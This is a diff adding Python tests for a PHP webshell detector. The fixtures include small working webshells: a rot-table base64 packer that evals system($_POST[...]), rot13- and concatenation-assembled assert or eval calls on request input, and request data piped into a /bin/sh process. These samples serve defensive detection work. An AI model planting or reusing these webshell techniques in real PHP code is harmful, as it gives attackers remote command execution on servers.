@@ -1,0 +1,178 @@
+"""PHP analysis, second round (issue 3): long concatenated blobs, decoders that need a shorter
+prefix, references, commented arrays, gate atoms for code assembled in the file, and the
+precision fixes (loops over fixed superglobal names, regexes with fixed delimiters).
+
+Every sample is a minimal one written for these tests.
+"""
+
+from __future__ import annotations
+
+import base64
+import time
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from sscguard.detect.webshell.detectors import php_atoms, run_detectors
+from sscguard.detect.webshell.flow import MAX_SECONDS, SinkKind
+from sscguard.detect.webshell.php import analyse_php
+from sscguard.detect.webshell.phpinterp import Lite, lite
+from sscguard.model import Severity
+
+
+def _rot_table_packer(payload: str, pieces: int) -> str:
+    """A substitution-table packer whose blob is split into ``pieces`` concatenated literals
+    (thousands of ``'...'.`` lines, as packers emit) and decoded character by character."""
+    plain = base64.b64encode(payload.encode()).decode()
+    swap = str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZ", "BCDEFGHIJKLMNOPQRSTUVWXYZA")
+    packed = plain.translate(swap)
+    size = max(1, len(packed) // pieces)
+    chunks = [packed[i : i + size] for i in range(0, len(packed), size)]
+    blob = ".\n".join(f"'{c}'" for c in chunks)
+    table = ", ".join(f"'{chr(65 + (i + 1) % 26)}' => '{chr(65 + i)}'" for i in range(26))
+    return (
+        "<?php\nfunction unt($s, $t) { $o = '';\n"
+        "  for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; }\n"
+        "  return base64_decode($o); }\n"
+        f"$blob = {blob};\n$t = array({table});\neval(unt($blob, $t));\n"
+    )
+
+
+_LONG_PAYLOAD = "system($_POST['k']);\n" + "// filler line of the packed program\n" * 400
+
+POSITIVES: dict[str, str] = {
+    # a blob of 1500 concatenated pieces: folded iteratively, not by recursion
+    "long-concatenation-packer": _rot_table_packer(_LONG_PAYLOAD, 1500),
+    # a reference to a folded function name
+    "reference-to-callee": (
+        "<?php\nfunction run($u) { $b = 's' . 'tr_r' . 'ot13'; $c = &$b;\n"
+        "  $a = $c('nffreg'); $a($u); }\nrun($_POST['x']);\n"
+    ),
+    # comments between array elements do not stop the folder
+    "commented-array-name": (
+        "<?php\n$r = $_POST['q'];\n$p = array('x' => 'as', /* noise */ 'y' => 'sert' // more\n);\n"
+        "$f = $p['x'] . /* noise */ $p['y'];\n$f($r);\n"
+    ),
+    # request input written to the standard input of a spawned shell
+    "proc-open-shell-stdin": (
+        "<?php\n$cmd = $_POST['c'];\n"
+        "$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'));\n"
+        "$p = proc_open('/bin/sh', $spec, $pipes);\nfwrite($pipes[0], $cmd . \"\\n\");\n"
+        "echo stream_get_contents($pipes[1]);\n"
+    ),
+}
+
+BENIGN: dict[str, str] = {
+    "long-concatenation-text": (
+        "<?php\n$html = " + ".\n".join(f"'<li>item {i}</li>'" for i in range(1500)) + ";\n"
+        "echo $html;\n"
+    ),
+    "reference-to-array": "<?php\n$cfg = array('a' => 1);\n$c = &$cfg;\n$c['a'] = $_GET['a'];\n",
+    "commented-array-callable": (
+        "<?php\n$map = array('x' => 'trim', /* the only one */ 'y' => 'strtolower');\n"
+        "$f = $map['y'];\necho $f($_GET['q']);\n"
+    ),
+    # ``foreach (array('_GET', ...) as $k) $$k = filtered`` writes known superglobals only
+    "superglobal-refilter-loop": (
+        "<?php\nforeach (array('_GET', '_POST') as $k) {\n"
+        "  $v = filter_input_array(constant('INPUT' . $k), FILTER_UNSAFE_RAW);\n"
+        "  if ($v) { $$k = $v; }\n}\n$handler = 'render_page';\n$handler($page);\n"
+    ),
+    # the request supplies a search term inside fixed delimiters and modifiers
+    "regex-with-fixed-delimiters": (
+        "<?php\n$q = $_GET['q'];\n"
+        "echo preg_replace('~(?<=[?&])(' . $q . ')=[^&]*~i', '', $_SERVER['REQUEST_URI']);\n"
+    ),
+    "proc-open-fixed-tool": (
+        "<?php\n$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'));\n"
+        "$p = proc_open('/usr/bin/gpg --encrypt', $spec, $pipes);\n"
+        "fwrite($pipes[0], $_POST['message']);\necho stream_get_contents($pipes[1]);\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(POSITIVES))
+def test_round2_technique_is_flagged(name: str) -> None:
+    data = POSITIVES[name].encode()
+    assert php_atoms(data), name
+    findings = run_detectors("x.php", data, ())
+    assert [f for f in findings if f.severity >= Severity.HIGH], name
+
+
+@pytest.mark.parametrize("name", sorted(BENIGN))
+def test_round2_benign_counterpart_is_not_flagged(name: str) -> None:
+    findings = run_detectors("x.php", BENIGN[name].encode(), ())
+    assert not [f for f in findings if f.severity >= Severity.MEDIUM], name
+
+
+def test_long_packer_decodes_a_prefix_within_the_budget() -> None:
+    start = time.monotonic()
+    analysis = analyse_php(POSITIVES["long-concatenation-packer"].encode())
+    assert time.monotonic() - start < MAX_SECONDS * 4
+    executed = [layer for layer in analysis.layers if layer.executed]
+    assert executed and executed[0].preview.startswith("system(")
+    assert any(p.kind is SinkKind.COMMAND for p in analysis.paths)
+
+
+@pytest.mark.parametrize(
+    "sample",
+    [
+        b"<?php $s = 'ev' . 'al($_PO' . 'ST[1]);'; @eval($s);",
+        b"<?php $f = 'system(\"id\")'; assert($f);",
+        b"<?php $r = $k('ab', '', 'sabyabsabteabm'); $r($z);",
+        b"<?php $g = str_replace('q', '', 'aqsqsqeqrqt'); $g($x);",
+        b'<?php eval("\\$x=gzin"."flate(\'abc\');");',
+    ],
+)
+def test_gate_atoms_for_code_assembled_in_the_file(sample: bytes) -> None:
+    assert php_atoms(sample)
+
+
+@pytest.mark.parametrize(
+    "sample",
+    [
+        b"<?php $v = $this->eval($x); echo str_replace('a', 'b', $s);",
+        b"<?php assert($a instanceof Foo); $n = str_replace(' ', '', $name);",
+        b"<?php eval('return ' . $expr . ';');",
+    ],
+)
+def test_gate_atoms_leave_ordinary_code_out(sample: bytes) -> None:
+    assert not php_atoms(sample)
+
+
+def test_lite_copy_keeps_fields_and_is_bounded() -> None:
+    from sscguard.detect.webshell.php import _parser
+    from sscguard.detect.webshell.phpinterp import NotConstantError
+
+    tree = _parser().parse(b"<?php $a = $b . 'c'; ++$i;")
+    copy = lite(tree.root_node, [10_000])
+    assert isinstance(copy, Lite) and copy.type == "program"
+    stmt = copy.named_children[1].named_children[0]
+    assert stmt.child_by_field_name("left") is stmt.children[0]
+    assert stmt.child_by_field_name("right") is not None
+    with pytest.raises(NotConstantError):
+        lite(tree.root_node, [3])
+
+
+_PIECES = st.sampled_from(
+    ["'a'", "'YWJj'", "$x", "chr(65)", "(", ")", "'.'", "$t['k']", "strrev('ab')", "/*c*/", "1"]
+)
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(_PIECES, min_size=1, max_size=300), st.integers(0, 4))
+def test_concatenation_folder_fuzz_never_crashes(pieces: list[str], shape: int) -> None:
+    joined = " . ".join(pieces)
+    source = [
+        f"<?php $x = {joined}; eval($x);",
+        f"<?php $t = array('k' => {joined}); $f = $t['k']; $f($_GET[1]);",
+        f"<?php function d($s) {{ $o = ''; for ($i = 0; $i < strlen($s); $i++) "
+        f"{{ $o .= $s[$i]; }} return $o; }} eval(d({joined}));",
+        f"<?php $a = &$b; $b = {joined}; $a($_POST[0]);",
+        f"<?php foreach (array({joined}) as $k) {{ $$k = $_GET[$k]; }} system($cmd);",
+    ][shape]
+    start = time.monotonic()
+    analysis = analyse_php(source.encode())
+    assert time.monotonic() - start < MAX_SECONDS * 8
+    assert isinstance(analysis.paths, tuple)
